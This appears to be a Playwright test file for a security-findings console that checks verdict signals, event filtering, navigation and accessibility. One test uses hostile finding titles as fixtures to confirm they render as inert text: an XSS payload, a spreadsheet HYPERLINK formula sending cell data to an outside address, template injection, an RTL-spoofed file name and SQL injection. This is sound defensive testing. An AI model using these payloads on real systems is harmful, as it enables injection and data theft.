import type { Locator, Page } from '@playwright/test'
import { expect, expectAccessible, expectInert, test } from './fixtures/console-test'
import { lastDays, numberIn, overflow, parameter, questionsFrom, rowCount } from './fixtures/page-state'
import { textsOf } from './fixtures/texts'

type Texts = ReturnType<typeof textsOf>

const week = lastDays(7)
const exfiltration = /svc-telemetry is anomalously invoking/
const escalation = /dave\.ortiz is anomalously invoking APIs commonly used in PrivilegeEscalation/
const probe = (n: number) => `arn:aws:securityhub:us-east-1:777788889999:product/777788889999/default/probe-${n}`

/** Opens a finding by its line in the list and waits until its verdict stands. */
async function openFromList(page: Page, t: Texts, title: RegExp) {
  await page.goto(`/findings?${week}`)
  await page.getByRole('grid').getByRole('link', { name: title }).click()
  await expect(page.getByRole('heading', { level: 1, name: title })).toBeVisible()
  await judged(page, t)
}

async function judged(page: Page, t: Texts) {
  await expect(signals(page, t).first()).toBeVisible()
  await expect(page.getByRole('button', { name: t('execution.run-again') })).toBeVisible()
}

function panel(page: Page, title: string | RegExp): Locator {
  return page.locator('section').filter({ has: page.getByRole('heading', { level: 2, name: title }) })
}

/** A line for each signal that says yes or no, then one for each reason why others cannot be told. */
function signals(page: Page, t: Texts): Locator {
  return panel(page, t('finding.verdict.title'))
    .getByRole('listitem')
    .filter({ has: page.getByRole('heading', { level: 3 }) })
}

function signal(page: Page, t: Texts, title: string): Locator {
  return signals(page, t).filter({ has: page.getByRole('heading', { name: title }) })
}

function events(page: Page, t: Texts): Locator {
  return page.getByRole('grid', { name: t('finding.events.label') })
}

/** Every whole number in a text. */
function numbersIn(text: string | null): number[] {
  return (text?.match(/\d[\d,]*/g) ?? []).map(numberIn)
}

test('judges a critical finding by signals that say yes, no or cannot tell, and counts them', async ({
  page,
}, info) => {
  const t = textsOf(info)
  await openFromList(page, t, exfiltration)
  await expect(page.getByRole('heading', { level: 1 })).toContainText(t('shell.severity.critical'))
  const count = { yes: 0, no: 0, unknown: 0 }
  for (const line of await signals(page, t).all()) {
    const heading = (await line.getByRole('heading').textContent()) ?? ''
    if (heading.startsWith(t('finding.answer.unknown'))) {
      const named = await line.getByRole('listitem').count()
      expect(named, heading).toBeGreaterThan(0)
      count.unknown += named
      continue
    }
    const answer = heading.endsWith(`: ${t('finding.answer.yes')}`) ? 'yes' : 'no'
    expect(heading).toContain(`: ${t(`finding.answer.${answer}`)}`)
    count[answer]++
    // A yes is never bare: it says of how many.
    const said = (await line.locator('p').first().textContent()) ?? ''
    expect(said).not.toBe('')
    if (answer === 'yes') expect(numbersIn(said).length, said).toBeGreaterThanOrEqual(2)
  }
  for (const [answer, n] of Object.entries(count)) expect(n, answer).toBeGreaterThan(0)
  const verdict = panel(page, t('finding.verdict.title'))
  await expect(verdict).toContainText(t('finding.verdict.count', { yes: count.yes, told: count.yes + count.no }))
  await expect(verdict).toContainText(t('finding.verdict.for-against', { no: count.no, unknown: count.unknown }).trim())
})

test('says yes to what the leaked key really did', async ({ page }, info) => {
  const t = textsOf(info)
  await openFromList(page, t, escalation)
  for (const id of ['new-ip', 'write-after-denial', 'denials', 'new-api', 'new-agent', 'new-region'] as const) {
    const title = t(`finding.signal.${id}.title`)
    await expect(signal(page, t, title).getByRole('heading')).toHaveText(`${title}: ${t('finding.answer.yes')}`)
  }
  await expect(signal(page, t, t('finding.signal.new-ip.title'))).toContainText('203.0.113.77')
})

test('tells shares as shares, with what they are shares of', async ({ page }, info) => {
  const t = textsOf(info)
  await openFromList(page, t, escalation)
  // 24 of the 46 calls were refused, and none of the 190 before.
  const numbers = { rate: 24 / 46, calls: 46, usual: 0, before: 190 }
  await expect(signal(page, t, t('finding.signal.error-rate.title'))).toContainText(
    t('finding.signal.error-rate.yes', numbers),
  )
})

test('narrows the events to the rows behind a signal, and goes back', async ({ page }, info) => {
  const t = textsOf(info)
  await openFromList(page, t, escalation)
  // The table comes after the page; until its rows are there it counts none.
  await expect(events(page, t)).toHaveAttribute('aria-busy', 'false')
  const before = await rowCount(events(page, t))
  for (const id of ['new-ip', 'write-after-denial'] as const) {
    const title = t(`finding.signal.${id}.title`)
    const line = signal(page, t, title)
    const button = line.getByRole('button', { name: t('finding.rows-of', { signal: title }) })
    await button.click()
    await expect(page.getByRole('heading', { name: t('finding.events.behind', { signal: title }) })).toBeVisible()
    await expect(button).toHaveAttribute('aria-pressed', 'true')
    await expect(events(page, t)).toHaveAttribute('aria-busy', 'false')
    // The count that the signal tells is the count of its rows.
    expect(numbersIn(await line.locator('p').first().textContent())).toContain(await rowCount(events(page, t)))
  }
  await events(page, t).getByRole('row').nth(1).click()
  await expect(events(page, t)).toContainText('event_uid')
  await page.getByRole('button', { name: t('finding.events.reset') }).click()
  await expect.poll(() => rowCount(events(page, t))).toBe(before)
})

test('leads to the page of whoever did it, with the window of the finding', async ({ page }, info) => {
  const t = textsOf(info)
  await openFromList(page, t, exfiltration)
  const counts = await panel(page, t('finding.did.title')).locator('ul > li > span:last-child').allTextContents()
  const lanes = (['findings', 'authentication', 'write', 'read', 'data', 'network', 'dns', 'kubernetes'] as const).map(
    (lane, i) => ({ lane, count: numberIn(counts[i] ?? '') }),
  )
  const own = lanes.filter(({ lane }) => !['findings', 'network', 'dns'].includes(lane))
  await page.getByRole('link', { name: t('finding.who.open') }).click()
  await expect(page).toHaveURL(/\/users\?/)
  expect(parameter(page, 'user')).toBe('arn:aws:iam::111122223333:user/svc-telemetry')
  // First seen at 04:44: a day before to a day after.
  expect(parameter(page, 'from')).toBe('2026-06-13T04:44:00.000Z')
  expect(parameter(page, 'to')).toBe('2026-06-15T04:44:00.000Z')
  const grid = page.getByRole('grid', { name: t('users.events.title') })
  await expect.poll(() => rowCount(grid)).toBe(own.reduce((sum, { count }) => sum + count, 0))
})

test('zooms what the user did from the kept result', async ({ page }, info) => {
  const t = textsOf(info)
  const asked = questionsFrom(page)
  await openFromList(page, t, exfiltration)
  const before = asked.length
  const did = panel(page, t('finding.did.title'))
  const shown = did.locator('p[aria-live]')
  const all = await shown.textContent()
  await did.getByRole('application').focus()
  await page.keyboard.press('+')
  await page.keyboard.press('+')
  await expect(shown).not.toHaveText(all ?? '')
  await page.keyboard.press('0')
  await expect(shown).toHaveText(all ?? '')
  expect(asked.slice(before)).toEqual([])
})

test('shows the history, what to do, and links out only to plain web addresses', async ({ page }, info) => {
  const t = textsOf(info)
  await openFromList(page, t, exfiltration)
  const history = panel(page, t('finding.history.title'))
  await expect(history).toContainText(t('finding.history.note', { count: 3 }))
  const times = await history.getByRole('row').locator('td:first-child').allTextContents()
  expect(times).toHaveLength(3)
  expect([...times].sort().reverse()).toEqual(times)
  const remediation = panel(page, t('finding.remediation.title'))
  await expect(remediation.locator('p').first()).not.toBeEmpty()
  const link = remediation.getByRole('link')
  await expect(link).toHaveAttribute('href', /^https:\/\/docs\.aws\.amazon\.com\//)
  await expect(link).toHaveAttribute('rel', /noopener/)
  await expect(panel(page, t('finding.concerned.title'))).toContainText('203.0.113.81')
  await expect(panel(page, t('finding.resources.title'))).toContainText('arn:aws:s3:::kestrel-customer-exports')
})

test('keeps what the viewer thinks in this browser', async ({ page }, info) => {
  const t = textsOf(info)
  await openFromList(page, t, exfiltration)
  const malicious = page.getByRole('button', { name: t('finding.note.malicious'), exact: true })
  await malicious.click()
  await expect(malicious).toHaveAttribute('aria-pressed', 'true')
  await page.reload()
  await expect(malicious).toHaveAttribute('aria-pressed', 'true')
  await malicious.click()
  await expect(malicious).toHaveAttribute('aria-pressed', 'false')
})

test('looks at somebody named by hand where the finding names nobody', async ({ page }, info) => {
  const t = textsOf(info)
  await page.goto(`/finding?uid=${encodeURIComponent(probe(5))}&${week}`)
  await expect(page.getByText(t('finding.who.none'))).toBeVisible()
  await page.getByRole('textbox', { name: t('finding.who.name') }).fill('arn:aws:iam::111122223333:user/dave.ortiz')
  await page.getByRole('button', { name: t('finding.who.use') }).click()
  await expect.poll(() => parameter(page, 'principal')).toBe('arn:aws:iam::111122223333:user/dave.ortiz')
  await judged(page, t)
  await page.reload()
  await judged(page, t)
})

test('says that it knows no such finding, and where it looked', async ({ page }, info) => {
  const t = textsOf(info)
  await page.goto(`/finding?uid=<b>no-such-finding</b>&${week}`)
  const main = page.getByRole('main')
  await expect(main).toContainText('<b>no-such-finding</b>')
  const [head] = t('finding.not-found', { from: '@', to: '@' }).split('@')
  await expect(main).toContainText(head?.trim() ?? '')
  await expect(main).toContainText('2026')
  await expectInert(page)
  await expectAccessible(page)
  await main.getByRole('link', { name: t('finding.to-findings') }).click()
  await expect(page).toHaveURL(/\/findings\?/)
  await page.goto(`/finding?${week}`)
  await expect(page.getByRole('main')).toContainText(t('finding.no-uid'))
})

test('shows hostile findings as text: title of page and heading, labels, details, notes, addresses', async ({
  page,
}, info) => {
  const t = textsOf(info)
  const titles = [
    '<img src=x onerror=window.__pwned=1>',
    '=HYPERLINK("http://203.0.113.9/?"&A1,"open")',
    'invoice⟪U+202E⟫fdp.exe',
    "{{constructor.constructor('window.__pwned=1')()}}",
    `${'Long '.repeat(60)}…`,
    "'; DROP TABLE sh_findings; --",
  ]
  for (const [i, title] of titles.entries()) {
    await page.goto(`/finding?uid=${encodeURIComponent(probe(i))}&${week}`)
    await expect(page.getByRole('heading', { level: 1 })).toContainText(title)
    await expect(page).toHaveTitle(`${title} · Lakewarden`)
    const resources = panel(page, t('finding.resources.title'))
    await resources.locator('summary').click()
    await expect(resources).toContainText('__note__')
    await panel(page, t('finding.everything.title')).locator('summary').click()
    await expect(panel(page, t('finding.remediation.title'))).toContainText('javascript:window.__pwned=1')
    await expectInert(page)
  }
})

for (const scheme of ['light', 'dark'] as const) {
  test(`is accessible in the ${scheme} theme`, async ({ page }, info) => {
    const t = textsOf(info)
    await page.emulateMedia({ colorScheme: scheme })
    await openFromList(page, t, escalation)
    await expectAccessible(page)
  })
}

test('works on a phone', async ({ page }, info) => {
  const t = textsOf(info)
  await page.setViewportSize({ width: 390, height: 844 })
  await openFromList(page, t, escalation)
  expect(await overflow(page)).toBe(0)
  await expectAccessible(page)
})
